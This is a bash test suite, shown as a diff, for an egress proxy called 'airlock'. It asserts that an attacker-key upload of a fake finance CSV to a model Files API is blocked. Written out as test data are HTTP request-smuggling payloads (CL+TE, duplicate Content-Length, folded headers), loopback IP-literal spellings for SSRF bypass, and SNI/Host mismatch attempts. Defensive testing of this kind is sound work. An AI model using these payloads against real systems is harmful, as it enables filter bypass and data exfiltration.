@@ -1,0 +1,402 @@
+#!/usr/bin/env bash
+# airlock proxy between real clients (curl, python3 urllib, wget, raw sockets) and a recording
+# upstream (tests/support/upstream.py) standing in for api.anthropic.com (TLS, inspected) and
+# files.example.com (plain http). Every case asserts what the client got AND what reached the
+# upstream, byte for byte: (a) the January 2026 incident upload with the attacker's key is
+# refused and not one byte leaves; (b) the organisation's own model call arrives identical;
+# (c) missing, misplaced and doubled keys; (d) plain http forwarding, bodies, keep-alive,
+# responses; (e) hosts no sink names and IP-literal spellings of loopback; (f) CONNECT host
+# versus Host header and SNI; (g) request smuggling shapes; (h) urllib and wget; --max-body;
+# the audit trail, and no key in any output.
+#
+# Contract (the proxy's command line): airlock proxy --listen ADDR:PORT [--policy FILE]
+#   [--user U --agent A --session S] [--resolve HOST:PORT:ADDR]... [--upstream-ca FILE]
+#   [--ready-file FILE] [--max-body BYTES]; ready file {"port": N}; a denial is 403 with
+#   {"error": "<reason code>", "reason": "<text>"} and nothing sent upstream.
+AIRLOCK=$1
+SRC=$2
+source "$(dirname "$0")/lib.sh"
+
+source "$(dirname "$0")/lib_proxy.sh"
+
+# Keys and card numbers are built by concatenation so that the repository does not look like
+# it leaks.
+ORG_KEY="sk-ant-api03-ORG""ANISATION-proxy-test-0000"
+ATTACKER_KEY="sk-ant-api03-ATT""ACKER-proxy-test-1111"
+ORG_SHA=$(printf '%s' "$ORG_KEY" | sha256sum | cut -d' ' -f1)
+sha() { sha256sum "$1" | cut -d' ' -f1; }
+mkdir -p "$HOME/Finance"
+printf 'date,account,amount\n2026-01-05,%s,12000.00\n2026-01-06,card %s,-420.50\n' \
+  "DE89 3704 0044 ""0532 0130 00" "4111 1111 ""1111 1111" >"$HOME/Finance/accounts.csv"
+printf '{"model":"claude-x","max_tokens":64,"messages":[{"role":"user","content":"Summarise the meeting notes."}]}' \
+  >"$WORK/message.json"
+# harmless text bodies (nothing a detector could take for personal data)
+python3 -c 'import sys
+for i in range(int(sys.argv[1])): sys.stdout.write("line %07d of a harmless text file\n" % i)' 7000 >"$WORK/text.txt"
+python3 -c 'import sys
+for i in range(int(sys.argv[1])): sys.stdout.write("chunk-body line %07d, nothing to see\n" % i)' 60000 >"$WORK/text2.txt"
+
+"$AIRLOCK" ca init >/dev/null
+AIRLOCK_CA="$AIRLOCK_HOME/ca/ca.crt"
+start_upstream "$WORK/up"
+A="api.anthropic.com:$UP_HTTPS"   # the model API as the client addresses it
+F="files.example.com:$UP_HTTP"    # the plain-http file host
+
+POLICY="$WORK/policy.yaml"
+cat >"$POLICY" <<YAML
+version: 1
+users:
+  alice: { roles: [analyst] }
+agents:
+  cowork: { roles: [office-agent] }
+classify:
+  - { path: "~/Finance/**", label: "confidential{financial}" }
+  - { detectors: [us_ssn, credit_card, iban], label: "confidential{pii}" }
+sinks:
+  anthropic-api:
+    http: { hosts: [api.anthropic.com], methods: [POST], paths: ["/v1/messages", "/v1/files"] }
+    credentials: { header: x-api-key, sha256: ["$ORG_SHA"] }
+    clearance: "confidential{pii,financial}"
+    inspect: true
+  plain:
+    http: { hosts: [files.example.com], methods: [GET, POST] }
+    clearance: internal
+  local:
+    http: { hosts: [localhost], methods: [GET] }
+    clearance: public
+roles:
+  analyst:
+    allow: [{ action: net.request, sink: [anthropic-api, plain, local] }]
+  office-agent:
+    allow: [{ action: net.request, sink: [anthropic-api, plain, local] }]
+defaults: { decision: deny, non_interactive_ask: deny }
+YAML
+"$AIRLOCK" policy lint "$POLICY" >/dev/null 2>&1 || { bad "test policy does not lint"; "$AIRLOCK" policy lint "$POLICY" >&2 || true; }
+
+# unknown.example.net resolves to the upstream too: only the policy keeps requests from it.
+PROXY_ARGS=(--policy "$POLICY" --user alice --agent cowork --session s1
+  --resolve "$A:127.0.0.1" --resolve "$F:127.0.0.1"
+  --resolve "unknown.example.net:$UP_HTTP:127.0.0.1" --resolve "unknown.example.net:$UP_HTTPS:127.0.0.1"
+  --upstream-ca "$UP_CA")
+start_proxy "${PROXY_ARGS[@]}"
+
+# expect_denied NAME CODE: the last request got 403 with the JSON error CODE (a CODE ending in
+# "." is a prefix) and a reason, and nothing reached the upstream since the mark.
+expect_denied() {
+  local err
+  expect_eq "$1: status" "$CODE" 403
+  err=$(jget error <<<"$BODY")
+  if [[ "$2" == *. ]]; then
+    [[ "$err" == "$2"* ]] && ok || bad "$1: error [$err] does not start with [$2]"
+  else
+    expect_eq "$1: error" "$err" "$2"
+  fi
+  [ -n "$(jget reason <<<"$BODY")" ] && ok || bad "$1: no reason in [$BODY]"
+  expect_nothing_upstream "$1"
+}
+expect_nothing_upstream() {
+  expect_eq "$1: bytes upstream" "$(new_upstream_bytes)" 0
+  expect_eq "$1: requests upstream" "$(new_upstream_requests)" 0
+}
+# expect_arrived NAME METHOD PATH FILE: exactly one request arrived since the mark, with that
+# method and origin-form path, FILE's bytes as its body; the client got the upstream's answer.
+expect_arrived() {
+  local l
+  expect_eq "$1: status" "$CODE" 200
+  expect_eq "$1: requests upstream" "$(new_upstream_requests)" 1
+  l=$(new_upstream_lines | tail -n 1)
+  expect_eq "$1: method upstream" "$(jget method <<<"$l")" "$2"
+  expect_eq "$1: path upstream" "$(jget path <<<"$l")" "$3"
+  expect_eq "$1: body upstream" "$(jget body_sha256 <<<"$l")" "$(sha "$4")"
+  expect_eq "$1: body length upstream" "$(jget body_len <<<"$l")" "$(stat -c %s "$4")"
+  expect_eq "$1: the client got the upstream's answer" "$(jget body_sha256 <<<"$BODY")" "$(sha "$4")"
+  UP_LINE=$l
+}
+
+# --- (a) THE INCIDENT: the finance file to the Files API with the attacker's key
+upstream_mark
+preq -H "x-api-key: $ATTACKER_KEY" -H 'anthropic-version: 2023-06-01' \
+  --data-binary @"$HOME/Finance/accounts.csv" "https://$A/v1/files"
+expect_denied "incident" deny.sink.credential_mismatch
+expect_not_contains "incident: no key in the answer" "$BODY" "$ATTACKER_KEY"
+upstream_mark
+preq -H "x-api-key: $ATTACKER_KEY" -F "file=@$HOME/Finance/accounts.csv" "https://$A/v1/files"
+expect_denied "incident as multipart (curl -F)" deny.sink.credential_mismatch
+upstream_mark
+preq -H "x-api-key: $ATTACKER_KEY" -H 'Transfer-Encoding: chunked' \
+  --data-binary @"$HOME/Finance/accounts.csv" "https://$A/v1/files"
+expect_denied "incident chunked" deny.sink.credential_mismatch
+
+# --- (b) the organisation's own model call goes through, byte-identical
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" -H 'content-type: application/json' \
+  --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_arrived "model call" POST /v1/messages "$WORK/message.json"
+expect_eq "model call: over TLS" "$(jget tls <<<"$UP_LINE")" true
+expect_eq "model call: SNI" "$(jget sni <<<"$UP_LINE")" api.anthropic.com
+expect_eq "model call: Host" "$(jget headers.host <<<"$UP_LINE")" "$A"
+expect_eq "model call: key forwarded" "$(jget headers.x-api-key <<<"$UP_LINE")" "$ORG_KEY"
+expect_eq "model call: content type" "$(jget headers.content-type <<<"$UP_LINE")" application/json
+upstream_mark
+preq -H "X-API-KEY: $ORG_KEY" -H 'Transfer-Encoding: chunked' \
+  --data-binary @"$WORK/text2.txt" "https://$A/v1/messages"
+expect_arrived "model call, 2 MB chunked, header name in capitals" POST /v1/messages "$WORK/text2.txt"
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" -F "file=@$WORK/text.txt" "https://$A/v1/files"
+expect_eq "upload with the org key: status" "$CODE" 200
+expect_eq "upload with the org key: arrived" "$(new_upstream_requests)" 1
+expect_contains "upload with the org key: multipart intact" "$(new_upstream_lines | jget headers.content-type)" "multipart/form-data; boundary="
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" "https://$A/v1/messages"
+expect_denied "GET on a POST-only sink" deny.sink.method_not_allowed
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/organizations/keys"
+expect_denied "a path the sink does not list" deny.sink.path_not_allowed
+
+# --- (c) the key missing, in the wrong header, or doubled
+upstream_mark
+preq --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "no key" deny.sink.credential_mismatch
+upstream_mark
+preq -H "Authorization: Bearer $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "org key as Bearer instead of x-api-key" deny.sink.credential_mismatch
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" -H "x-api-key: $ATTACKER_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "org key and attacker key" deny.sink.credential_mismatch
+upstream_mark
+preq -H "x-api-key: $ATTACKER_KEY" -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "attacker key first, org key second" deny.sink.credential_mismatch
+upstream_mark
+preq -H "x-api-key: ${ORG_KEY}x" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "org key with a byte added" deny.sink.credential_mismatch
+
+# --- (d) plain http to files.example.com, absolute-form through the proxy
+upstream_mark
+preq -H 'Connection: keep-alive, X-Hop' -H 'X-Hop: for the proxy only' "http://$F/hello?x=1"
+expect_eq "GET: status" "$CODE" 200
+expect_eq "GET: arrived" "$(new_upstream_requests)" 1
+L=$(new_upstream_lines | tail -n 1)
+expect_eq "GET: origin-form upstream" "$(jget path <<<"$L")" "/hello?x=1"
+expect_eq "GET: Host upstream" "$(jget headers.host <<<"$L")" "$F"
+expect_eq "GET: plain" "$(jget tls <<<"$L")" false
+expect_eq "GET: a header named in Connection is not forwarded (RFC 9110 §7.6.1)" "$(jget headers.x-hop <<<"$L")" ""
+expect_eq "GET: the upstream saw other headers" "$(jget headers.user-agent <<<"$L" | cut -d/ -f1)" curl
+upstream_mark
+preq --data-binary @"$WORK/text.txt" "http://$F/upload"
+expect_arrived "POST Content-Length" POST /upload "$WORK/text.txt"
+upstream_mark
+preq -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/text2.txt" "http://$F/upload-chunked"
+expect_arrived "POST chunked" POST /upload-chunked "$WORK/text2.txt"
+upstream_mark
+OUT=$(pcurl -w '%{num_connects}\n' -o /dev/null -o /dev/null "http://$F/one" "http://$F/two")
+expect_eq "keep-alive: one connection to the proxy for two requests" "$OUT" "1
+0"
+expect_eq "keep-alive: both arrived" "$(new_upstream_lines | while read -r l; do jget path <<<"$l"; done | tr '\n' ' ')" "/one /two "
+# responses come back as the upstream sent them
+preq "http://$F/chunked?n=4"
+expect_eq "chunked response" "$BODY" "chunk 1
+chunk 2
+chunk 3
+chunk 4"
+pcurl -D "$WORK/h" -o "$WORK/big.out" "http://$F/big?n=3000000"
+expect_contains "big response: checksum header" "$(tr -d '\r' <"$WORK/h")" "X-Body-Sha256: $(sha "$WORK/big.out")"
+expect_eq "big response: size" "$(stat -c %s "$WORK/big.out")" 3000000
+preq -D "$WORK/h" "http://$F/redirect?to=http://unknown.example.net/next"
+expect_eq "redirect: status passed on" "$CODE" 302
+expect_contains "redirect: Location passed on" "$(tr -d '\r' <"$WORK/h")" "Location: http://unknown.example.net/next"
+preq "http://$F/status/404"
+expect_eq "404 passed on" "$CODE" 404
+preq "http://$F/slow?parts=3&delay=0.1"
+expect_eq "slow response: whole" "$(jget path <<<"$BODY")" "/slow?parts=3&delay=0.1"
+upstream_mark
+preq -X DELETE "http://$F/x"
+expect_denied "DELETE on a GET/POST sink" deny.sink.method_not_allowed
+
+# --- (e) hosts no sink names; IP literals of loopback (the upstream listens there)
+upstream_mark
+preq "http://unknown.example.net:$UP_HTTP/"
+expect_denied "unknown host" deny.sink.unknown
+upstream_mark
+preq --data-binary @"$WORK/text.txt" "http://unknown.example.net:$UP_HTTP/upload"
+expect_denied "POST to an unknown host" deny.sink.unknown
+upstream_mark
+preq "https://unknown.example.net:$UP_HTTPS/"
+expect_eq "CONNECT to an unknown host: refused" "$CONNECT_CODE" 403
+expect_nothing_upstream "CONNECT to an unknown host"
+upstream_mark
+OUT=$(: | raw_http --connect "unknown.example.net:$UP_HTTPS" "$PROXY_PORT")
+expect_eq "raw CONNECT to an unknown host: 403" "$(jget connect_status <<<"$OUT")" 403
+expect_eq "raw CONNECT to an unknown host: error" "$(jget body <<<"$OUT" | jget error)" deny.sink.unknown
+expect_nothing_upstream "raw CONNECT to an unknown host"
+upstream_mark
+preq "http://127.0.0.1:$UP_HTTP/"
+expect_denied "curl to 127.0.0.1" deny.
+for host in 2130706433 0x7f.1 0177.0.0.1 127.1 "[::ffff:127.0.0.1]" "[::ffff:7f00:1]"; do
+  upstream_mark
+  OUT=$(printf 'GET http://%s:%s/ HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' \
+    "$host" "$UP_HTTP" "$host" "$UP_HTTP" | raw_http "$PROXY_PORT")
+  expect_eq "IP literal $host: 403" "$(jget status <<<"$OUT")" 403
+  [[ "$(jget body <<<"$OUT" | jget error)" == deny.* ]] && ok || bad "IP literal $host: error in [$OUT]"
+  expect_nothing_upstream "IP literal $host"
+done
+for target in "127.0.0.1:$UP_HTTPS" "2130706433:$UP_HTTPS" "[::ffff:127.0.0.1]:$UP_HTTPS"; do
+  upstream_mark
+  OUT=$(: | raw_http --connect "$target" "$PROXY_PORT")
+  expect_eq "CONNECT $target: 403" "$(jget connect_status <<<"$OUT")" 403
+  expect_nothing_upstream "CONNECT $target"
+done
+# A declared sink whose name resolves (no --resolve) to a loopback address: SSRF protection
+# refuses to connect to it (contract assumption; --resolve is the tests' explicit override).
+upstream_mark
+preq "http://localhost:$UP_HTTP/"
+expect_denied "sink resolving to loopback" deny.
+# The absolute URL decides, whatever Host says: refused, or forwarded with the URL's authority.
+upstream_mark
+OUT=$(printf 'GET http://%s/host-mismatch HTTP/1.1\r\nHost: unknown.example.net:%s\r\nConnection: close\r\n\r\n' \
+  "$F" "$UP_HTTP" | raw_http "$PROXY_PORT")
+if [ "$(jget status <<<"$OUT")" = 200 ]; then
+  expect_eq "absolute URL vs Host: Host upstream is the URL's" "$(new_upstream_lines | tail -n 1 | jget headers.host)" "$F"
+else
+  expect_eq "absolute URL vs Host: refused" "$(jget status <<<"$OUT")" 403
+  expect_nothing_upstream "absolute URL vs Host"
+fi
+
+# --- (f) inside a CONNECT tunnel the request must be for the CONNECT host
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" -H "Host: $F" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "CONNECT api.anthropic.com, Host files.example.com" deny.
+upstream_mark
+preq -H "x-api-key: $ORG_KEY" -H "Host: unknown.example.net" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
+expect_denied "CONNECT api.anthropic.com, Host unknown.example.net" deny.
+# SNI for another host than CONNECT named (hostname check off: only the proxy can stop it)
+upstream_mark
+OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
+  "$A" "$ORG_KEY" | raw_http --connect "$A" --tls files.example.com --cacert "$AIRLOCK_CA" --no-hostname-check "$PROXY_PORT")
+[ "$(jget status <<<"$OUT")" != 200 ] && ok || bad "SNI files.example.com in a tunnel to api.anthropic.com went through: $OUT"
+expect_nothing_upstream "SNI mismatch"
+# the same raw request with the right SNI does go through (the check above can fail)
+upstream_mark
+OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
+  "$A" "$ORG_KEY" | raw_http --connect "$A" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT")
+expect_eq "raw TLS request with the right SNI: status" "$(jget status <<<"$OUT")" 200
+expect_eq "raw TLS request with the right SNI: arrived" "$(new_upstream_requests)" 1
+
+# --- (g) smuggling shapes: refused (400 or 403), nothing upstream
+smuggle() { # NAME HEADERS BODY (both with \r\n escapes): raw POST to files.example.com, a sink that accepts POST
+  upstream_mark
+  OUT=$(printf 'POST http://%s/smuggle HTTP/1.1\r\nHost: %s\r\n%b\r\n%b' "$F" "$F" "$2" "$3" | raw_http "$PROXY_PORT")
+  case "$(jget status <<<"$OUT")" in 400 | 403) ok ;; *) bad "$1: status [$(jget status <<<"$OUT")], want 400 or 403: $OUT" ;; esac
+  expect_nothing_upstream "$1"
+}
+upstream_mark
+OUT=$(printf 'POST http://%s/control HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello' \
+  "$F" "$F" | raw_http "$PROXY_PORT")
+expect_eq "control: a well-formed raw POST passes" "$(jget status <<<"$OUT")" 200
+expect_eq "control: it arrived" "$(new_upstream_requests)" 1
+SMUGGLED="GET http://$F/smuggled HTTP/1.1\r\nHost: $F\r\n\r\n"
+smuggle "CL+TE" 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n' "0\r\n\r\n$SMUGGLED"
+smuggle "TE+CL" 'Transfer-Encoding: chunked\r\nContent-Length: 40\r\n' "0\r\n\r\n$SMUGGLED"
+smuggle "two different Content-Lengths" 'Content-Length: 5\r\nContent-Length: 44\r\n' "hello$SMUGGLED"
+smuggle "Content-Length list" 'Content-Length: 5, 44\r\n' "hello$SMUGGLED"
+smuggle "Content-Length with a sign" 'Content-Length: +5\r\n' "hello$SMUGGLED"
+smuggle "Transfer-Encoding not ending in chunked" 'Transfer-Encoding: chunked, identity\r\n' "0\r\n\r\n$SMUGGLED"
+smuggle "Transfer-Encoding unknown" 'Transfer-Encoding: xchunked\r\n' "0\r\n\r\n$SMUGGLED"
+smuggle "space before the colon" 'Transfer-Encoding : chunked\r\nContent-Length: 5\r\n' "0\r\n\r\n$SMUGGLED"
+smuggle "folded Transfer-Encoding" 'Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n' "0\r\n\r\n$SMUGGLED"
+# inside the inspected tunnel, with the org key (otherwise allowed)
+upstream_mark
+OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\n\r\n{}' \
+  "$A" "$ORG_KEY" "$A" "$ATTACKER_KEY" | raw_http --connect "$A" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT")
+case "$(jget status <<<"$OUT")" in 400 | 403) ok ;; *) bad "CL+TE in the tunnel: status [$(jget status <<<"$OUT")]: $OUT" ;; esac
+expect_nothing_upstream "CL+TE in the tunnel"
+
+# --- (h) python3 urllib and wget through the proxy
+upstream_mark
+OUT=$(python3 -c '
+import json, ssl, sys, urllib.error, urllib.request
+proxy, ca, a, f, org, bad, msg = sys.argv[1:8]
+ctx = ssl.create_default_context(cafile=ca)
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}),
+                                     urllib.request.HTTPSHandler(context=ctx))
+body = open(msg, "rb").read()
+def post(url, key):
+    req = urllib.request.Request(url, data=body, method="POST", headers={"x-api-key": key, "content-type": "application/json"})
+    try:
+        r = opener.open(req, timeout=60)
+        return r.status, json.load(r).get("body_sha256")
+    except urllib.error.HTTPError as e:
+        return e.code, json.load(e).get("error")
+print(*post("https://%s/v1/messages" % a, org))
+print(*post("https://%s/v1/files" % a, bad))
+r = opener.open("http://%s/urllib-get" % f, timeout=60)
+print(r.status, json.load(r)["path"])
+r = opener.open(urllib.request.Request("http://%s/urllib-post" % f, data=body, method="POST"), timeout=60)
+print(r.status, json.load(r)["body_sha256"])
+' "$PROXY_URL" "$AIRLOCK_CA" "$A" "$F" "$ORG_KEY" "$ATTACKER_KEY" "$WORK/message.json" 2>&1)
+MSG_SHA=$(sha "$WORK/message.json")
+expect_eq "urllib: answers" "$OUT" "200 $MSG_SHA
+403 deny.sink.credential_mismatch
+200 /urllib-get
+200 $MSG_SHA"
+expect_eq "urllib: three requests arrived" "$(new_upstream_requests)" 3
+expect_eq "urllib: the denied one did not" "$(new_upstream_lines | grep -c '"/v1/files"' || true)" 0
+upstream_mark
+WGET=(wget -q -O - --timeout=60 --tries=1 -e use_proxy=yes -e "http_proxy=$PROXY_URL" -e "https_proxy=$PROXY_URL"
+  --ca-certificate="$AIRLOCK_CA")
+OUT=$("${WGET[@]}" --header "x-api-key: $ORG_KEY" --header 'content-type: application/json' \
+  --post-file="$WORK/message.json" "https://$A/v1/messages")
+expect_eq "wget model call: body arrived" "$(jget body_sha256 <<<"$OUT")" "$MSG_SHA"
+set +e
+OUT=$("${WGET[@]}" --content-on-error --header "x-api-key: $ATTACKER_KEY" \
+  --post-file="$HOME/Finance/accounts.csv" "https://$A/v1/files")
+rc=$?
+set -e
+expect_eq "wget incident: server error exit" "$rc" 8
+expect_eq "wget incident: error" "$(jget error <<<"$OUT")" deny.sink.credential_mismatch
+OUT=$("${WGET[@]}" --post-file="$WORK/text.txt" "http://$F/wget-post")
+expect_eq "wget plain POST: body arrived" "$(jget body_sha256 <<<"$OUT")" "$(sha "$WORK/text.txt")"
+OUT=$("${WGET[@]}" "http://$F/wget-get")
+expect_eq "wget plain GET" "$(jget path <<<"$OUT")" /wget-get
+expect_eq "wget: three requests arrived" "$(new_upstream_requests)" 3
+
+# --- the audit trail has the incident on record, and no key anywhere
+EXPORT=$("$AIRLOCK" audit export --format jsonl)
+INCIDENT=$(python3 -c '
+import json, sys
+n = 0
+for line in sys.stdin:
+    r = json.loads(line)
+    if (r.get("reason") == "deny.sink.credential_mismatch" and r.get("decision") == "deny"
+            and "api.anthropic.com" in (r.get("resource") or "") and "/v1/files" in (r.get("resource") or "")
+            and r.get("user") == "alice" and r.get("agent") == "cowork" and r.get("session") == "s1"):
+        n += 1
+print(n)' <<<"$EXPORT")
+[ "$INCIDENT" -ge 1 ] && ok || bad "audit: no deny.sink.credential_mismatch record for POST /v1/files by alice/cowork/s1"
+expect_contains "audit: the model call is on record" "$EXPORT" "/v1/messages"
+"$AIRLOCK" audit verify >/dev/null && ok || bad "audit verify"
+for key in "$ATTACKER_KEY" "$ORG_KEY"; do
+  expect_not_contains "no key in the audit trail" "$EXPORT" "$key"
+  grep -qF -- "$key" "$PROXY_LOG" && bad "a key is in the proxy's output" || ok
+done
+
+stop_proxy
+grep -qE 'AddressSanitizer|LeakSanitizer|runtime error:' "$PROXY_LOG" &&
+  bad "sanitizer report in the proxy's output: $(head -c 2000 "$PROXY_LOG")" || ok
+
+# --- --max-body: a body over the limit is not forwarded (fail closed), one under it is
+start_proxy "${PROXY_ARGS[@]}" --max-body 4096
+head -c 3000 "$WORK/text.txt" >"$WORK/small.txt"
+upstream_mark
+preq --data-binary @"$WORK/small.txt" "http://$F/small"
+expect_arrived "under --max-body" POST /small "$WORK/small.txt"
+upstream_mark
+preq --data-binary @"$WORK/text.txt" "http://$F/too-big"
+case "$CODE" in 403 | 413) ok ;; *) bad "over --max-body: status [$CODE], want 403 or 413" ;; esac
+expect_nothing_upstream "over --max-body"
+upstream_mark
+preq -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/text.txt" "http://$F/too-big-chunked"
+case "$CODE" in 403 | 413) ok ;; *) bad "over --max-body, chunked: status [$CODE], want 403 or 413" ;; esac
+expect_nothing_upstream "over --max-body, chunked"
+stop_proxy
+
+finish
